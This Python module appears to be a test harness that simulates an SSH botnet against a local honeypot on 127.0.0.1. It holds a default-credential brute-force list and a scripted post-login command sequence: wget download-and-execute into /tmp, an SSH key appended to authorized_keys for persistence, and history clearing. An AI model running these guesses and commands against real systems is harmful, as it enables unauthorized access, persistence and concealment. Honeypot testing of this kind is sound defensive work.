"""A scripted attacker: what a common SSH bot does, done to a honeypot on 127.0.0.1.

Three bots knock, each from an address of its own in 127.0.0.0/8 and all with the same key: a botnet. The first one guesses a
password, looks around, downloads a file over HTTP, and uploads another over SFTP. Neither file is a program.
"""
import hashlib
import http.server
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager

import paramiko

BOTS = ["127.0.0.11", "127.0.0.12", "127.0.0.13"]
SERVER = "127.0.0.1"
PASSWORD = "3edc4rfv"
USERS = f"root:x:{PASSWORD}\n"
WORDS = ["root", "admin", "password", "toor", "qwerty", "vizxv", "xc3511", "ubnt", "raspberry", "oracle", "server", "welcome"]
ENDS = ["", "1", "12", "123", "1234", "12345", "!", "@123", "2026"]
REAL_ACCOUNT = "anna.berg"
GUESSES = [
    *[("root", word + end) for word in WORDS for end in ENDS],
    *[("admin", "admin"), ("ubnt", "ubnt"), ("pi", "raspberry"), ("oracle", "oracle"), ("test", "test"), ("git", "git")],
    *[(REAL_ACCOUNT, "Summer2026!"), (REAL_ACCOUNT, REAL_ACCOUNT)],
]
OTHER_GUESSES = [("root", "888888"), ("support", "support"), ("user", "user")]
PAYLOAD = b"#!/bin/sh\n# A harmless stand-in for a bot: it only says where it is.\nuname -a\n"
UPLOAD = b"A second harmless file, sent over SFTP.\n"
ATTEMPTS_A_CONNECTION = 3
SECONDS = 20
CONNECTIONS = 20
PROMPT = b"# "


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


def commands(url: str) -> list[str]:
    return [
        "uname -a",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cd /tmp",
        f"wget -q {url} -O .x",
        "chmod +x .x",
        "./.x",
        "mkdir -p ~/.ssh",
        "echo 'ssh-rsa AAAAEXAMPLEEXAMPLE bot' >> ~/.ssh/authorized_keys",
        "history -c",
    ]


@contextmanager
def download_server():
    """Serves the payload, whatever the path; gives the URL."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(len(PAYLOAD)))
            self.end_headers()
            self.wfile.write(PAYLOAD)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer((SERVER, 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{SERVER}:{server.server_address[1]}/bins/x86_64"
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def connection(bot: str, port: int):
    transport = paramiko.Transport(socket.create_connection((SERVER, port), timeout=SECONDS, source_address=(bot, 0)))
    transport.banner_timeout = transport.auth_timeout = SECONDS
    try:
        transport.start_client(timeout=SECONDS)
        yield transport
    finally:
        transport.close()


def refused(attempt, *what) -> bool:
    try:
        attempt(*what)
    except paramiko.AuthenticationException:
        return True
    return False


def guess(bot: str, port: int, guesses: list[tuple[str, str]]):
    """The connections run side by side: the honeypot waits a second after every wrong password."""
    parts = [guesses[start : start + ATTEMPTS_A_CONNECTION] for start in range(0, len(guesses), ATTEMPTS_A_CONNECTION)]
    with ThreadPoolExecutor(min(len(parts), CONNECTIONS)) as pool:
        list(pool.map(lambda part: guess_part(bot, port, part), parts))


def guess_part(bot: str, port: int, guesses: list[tuple[str, str]]):
    with connection(bot, port) as transport:
        for user, password in guesses:
            assert refused(transport.auth_password, user, password), f"{user} got in with {password}"


def show_key(bot: str, port: int, key: paramiko.PKey):
    with connection(bot, port) as transport:
        assert refused(transport.auth_publickey, "root", key), "the honeypot took the key"


def until(channel, end: bytes) -> bytes:
    seen = b""
    while not seen.endswith(end):
        part = channel.recv(4096)
        assert part, f"the session ended early: {seen[-200:]!r}"
        seen += part
    return seen


def session(bot: str, port: int, url: str):
    with connection(bot, port) as transport:
        transport.auth_password("root", PASSWORD)
        channel = transport.open_session(timeout=SECONDS)
        channel.settimeout(SECONDS)
        channel.get_pty()
        channel.invoke_shell()
        until(channel, PROMPT)
        for command in commands(url):
            channel.sendall(command.encode() + b"\n")
            until(channel, PROMPT)
        channel.close()
        upload(transport)


def upload(transport: paramiko.Transport):
    with transport.open_sftp_client() as sftp, sftp.open("/tmp/.y", "w") as file:
        file.write(UPLOAD)


def attack(port: int, url: str) -> float:
    """All that the bots do; gives the seconds it took."""
    started = time.monotonic()
    key = paramiko.ECDSAKey.generate()
    lists = [GUESSES, OTHER_GUESSES, OTHER_GUESSES]
    with ThreadPoolExecutor(len(BOTS)) as pool:
        list(pool.map(lambda bot, guesses: guess(bot, port, guesses), BOTS, lists))
    for bot in BOTS:
        show_key(bot, port, key)
    session(BOTS[0], port, url)
    return time.monotonic() - started
